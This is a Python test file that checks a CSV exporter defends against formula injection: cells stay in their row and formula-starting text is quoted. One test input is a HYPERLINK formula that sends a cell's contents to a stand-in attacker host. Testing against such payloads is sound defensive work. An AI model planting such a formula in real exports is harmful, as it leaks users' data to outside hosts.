"""CSV cells a spreadsheet would run as formulas are written as text (OWASP's CSV injection
advice), and no text, whatever it holds, breaks out of its cell or its row."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from storage.export import COLUMNS, FIELDS, FORMULA_STARTS, csv_writer, neutralise

# Text as typed, with the characters that start a formula or end a cell or row often.
TEXT = st.text(
    alphabet=st.one_of(st.sampled_from(list("=+-@\t\r\n,\"'")), st.characters(codec="utf-8")),
    max_size=40,
)


def _one_row(record: dict[str, object], *, raw: bool = False) -> dict[str, str]:
    out = io.StringIO()
    csv_writer(out, raw=raw)(record)
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert len(rows) == 1, "a cell broke out of its row"
    assert list(rows[0]) == list(COLUMNS)
    return rows[0]


@given(st.fixed_dictionaries({f: TEXT for f in FIELDS if f != "criteria"}))
def test_no_text_cell_starts_a_formula_and_every_one_round_trips(texts: dict[str, str]) -> None:
    record = {**texts, "criteria": {}}
    row = _one_row(record)
    for field, typed in texts.items():
        assert not row[field].startswith(FORMULA_STARTS), field
        assert row[field] == neutralise(typed)
        assert row[field] in (typed, "'" + typed)
    raw = _one_row(record, raw=True)
    assert {f: raw[f] for f in texts} == texts


def test_owasp_examples() -> None:
    assert neutralise('=HYPERLINK("https://evil.example/?d="&A2,"x")') == (
        '\'=HYPERLINK("https://evil.example/?d="&A2,"x")'
    )
    for start in FORMULA_STARTS:
        assert neutralise(start + "1+1") == "'" + start + "1+1"
    assert neutralise("Acme = 1") == "Acme = 1"
    assert neutralise("'=1") == "'=1"  # already shown as text
